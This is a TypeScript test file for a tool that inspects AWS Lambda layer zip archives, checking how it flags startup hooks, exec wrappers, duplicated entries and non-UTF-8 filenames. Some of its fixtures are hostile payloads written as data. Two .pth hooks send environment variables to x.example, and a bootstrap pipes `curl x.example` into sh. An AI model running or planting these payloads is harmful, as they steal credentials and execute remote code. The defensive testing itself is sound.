// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell scripts, not templates.
/**
 * The inspection of real zip archives, built at test time, from the central directory to the report:
 * the shapes that once fooled it or made it cry wolf (issue 21, cases 1 to 4).
 */
import { inspectSource } from '../../../../lambda/adapters/layer-archive-reader.js';
import { BufferSource } from '../../../../lambda/adapters/layer-archive-source.js';
import { contentPoints } from '../../../../lambda/domain/content-scoring.js';
import type { InspectionSignal } from '../../../../lambda/domain/inspection/model.js';
import { buildZip, type ZipEntrySpec } from '../../../support/zips.js';

async function report(specs: ZipEntrySpec[]) {
  const result = await inspectSource(new BufferSource(buildZip(specs)), { publisher: null });
  return result;
}

const ids = (signals: readonly InspectionSignal[]) =>
  signals.map((s) => `${s.severity} ${s.id} ${s.path ?? ''}`);

/** The score a layer's signals bring: the most severe of each kind, as content-scoring counts it. */
function score(signals: readonly InspectionSignal[]): number {
  const best = new Map<string, number>();
  for (const s of signals) best.set(s.id, Math.max(best.get(s.id) ?? 0, contentPoints(s.id, s.severity)));
  return [...best.values()].reduce((a, b) => a + b, 0);
}

const SITE = 'python/lib/python3.12/site-packages';
const HOOK = {
  path: `${SITE}/zz.pth`,
  data: "import os; os.system('curl -d @/proc/self/environ x.example')\n",
};
const WRAPPER = { path: 'wrap', data: '#!/bin/bash\nargs=("$@")\nexec "${args[@]}"\n', mode: 0o755 };

describe('inspection of real archives', () => {
  it.each([
    [
      'AWS bash sample',
      '#!/bin/bash\nargs=("$@")\nextra_args=("-X" "importtime")\nargs=("${args[@]:0:$#-1}" "${extra_args[@]}" "${args[@]: -1}")\nexec "${args[@]}"\n',
    ],
    [
      'AWS Python sample',
      "#!/usr/bin/env python3\nimport sys\nimport os\nargs = sys.argv[1:]\nextra_args = ['-X', 'importtime']\nargs[-1:-1] = extra_args\nargs = ' '.join(args)\nos.system(args)\n",
    ],
    [
      'AWS Ruby sample',
      "#!/usr/bin/env ruby\nargs = ARGV\nextra_args = ['-X', 'importtime']\nargs.insert(-2, *extra_args)\nexec *args\n",
    ],
    [
      'OpenTelemetry otel-instrument',
      '#!/bin/bash -e\nexport PYTHONPATH="/opt/python:$PYTHONPATH"\nexport ORIG_HANDLER=$_HANDLER\nexport _HANDLER="otel_wrapper.lambda_handler"\npython3 /opt/python/bin/opentelemetry-instrument "$@"\n',
    ],
    [
      'OpenTelemetry otel-handler',
      '#!/bin/bash\nset -euo pipefail\nexport NODE_OPTIONS="${NODE_OPTIONS:-} --require /opt/wrapper.js"\nARGS=("$@")\nexec "${ARGS[@]}"\n',
    ],
  ])('case 1: recognises the %s as a wrapper', async (_, script) => {
    const { report: r } = await report([{ path: 'wrapper', data: script, mode: 0o755 }]);
    expect(r.signals.map((s) => s.id)).toEqual(['exec-wrapper-script']);
    expect(r.signals[0]?.severity).toBe('medium');
  });

  it('case 2: rates a start-up .pth that sends the environment out high, whatever its name', async () => {
    const { report: r } = await report([
      {
        path: `${SITE}/protobuf-4.25.3-py3.12-nspkg.pth`,
        data: "import os, urllib.request; urllib.request.urlopen('https://x.example', data=repr(dict(os.environ)).encode())\n",
      },
    ]);
    expect(ids(r.signals)).toEqual([`high runtime-startup-hook ${SITE}/protobuf-4.25.3-py3.12-nspkg.pth`]);
    expect(score(r.signals)).toBe(20);
  });

  it('case 3: one duplicated file hides nothing: both payloads are named, and the score only grows', async () => {
    const clean = await report([HOOK, WRAPPER, { path: 'python/README.txt', data: 'a' }]);
    const duplicated = await report([
      HOOK,
      WRAPPER,
      { path: 'python/README.txt', data: 'a' },
      { path: 'python/README.txt', data: 'b' },
    ]);
    expect(ids(duplicated.report.signals)).toEqual([
      `high runtime-startup-hook ${SITE}/zz.pth`,
      'medium unsafe-archive python/README.txt',
      'medium exec-wrapper-script wrap',
    ]);
    expect(duplicated.report.gaps).toEqual([]);
    expect(score(duplicated.report.signals)).toBeGreaterThan(score(clean.report.signals));
  });

  it('case 3: each copy of a duplicated path is read and reported', async () => {
    const { report: r } = await report([
      { path: 'bootstrap', data: '#!/bin/sh\necho hello\n', mode: 0o755 },
      { path: 'bootstrap', data: '#!/bin/sh\ncurl -s x.example | sh\nexec "$@"\n', mode: 0o755 },
    ]);
    expect(ids(r.signals)).toEqual([
      'high exec-wrapper-script bootstrap',
      'medium unsafe-archive bootstrap',
      'medium custom-runtime-bootstrap bootstrap',
      'medium custom-runtime-bootstrap bootstrap',
    ]);
  });

  it('case 4: a name in code page 437 without the UTF-8 flag is no zip bomb', async () => {
    // "python/café.py" as Info-ZIP's `zip -X` writes it on a Latin-1 system: é is 0x82 in CP437.
    const raw = Buffer.concat([Buffer.from('python/caf'), Buffer.from([0x82]), Buffer.from('.py')]);
    const { report: r, entries } = await report([
      { path: 'python/café.py', rawName: raw, utf8: false, data: 'x = 1\n' },
      {
        path: 'python/ñ.py',
        rawName: Buffer.from([0x70, 0x79, 0x74, 0x68, 0x6f, 0x6e, 0x2f, 0xa4, 0x2e, 0x70, 0x79]),
        utf8: false,
        data: 'y = 2\n',
      },
      { path: `${SITE}/x.pth`, data: 'import os\n' },
    ]);
    expect(entries.map((e) => e.path)).toEqual(['python/café.py', 'python/ñ.py', `${SITE}/x.pth`]);
    expect(r.signals.map((s) => s.id)).not.toContain('unsafe-archive');
    expect(r.gaps).toEqual([]);
  });

  it('case 4: a name whose bytes would decode to more characters than bytes still measures by its bytes', async () => {
    // Four bytes of UTF-8 that a Latin-1 reading makes four characters, and a UTF-8 reading one.
    const { report: r } = await report([
      { path: 'python/\u{1F600}.py', data: 'a = 1\n', utf8: false },
      { path: 'python/b.py', data: 'b = 2\n' },
    ]);
    expect(r.signals.map((s) => s.id)).not.toContain('unsafe-archive');
  });

  it('case 4: the Unicode Path extra field names the entry while its CRC matches the name', async () => {
    const raw = Buffer.from('python/caf\x82.py', 'latin1');
    const { entries } = await report([
      { path: 'a', rawName: raw, utf8: false, unicodePath: { name: 'python/café.py' }, data: '1' },
      {
        path: 'b',
        rawName: raw,
        utf8: false,
        unicodePath: { name: 'python/other.py', staleCrc: true },
        data: '2',
      },
    ]);
    expect(entries.map((e) => e.path)).toEqual(['python/café.py', 'python/caf\u00e9.py']);
  });
});
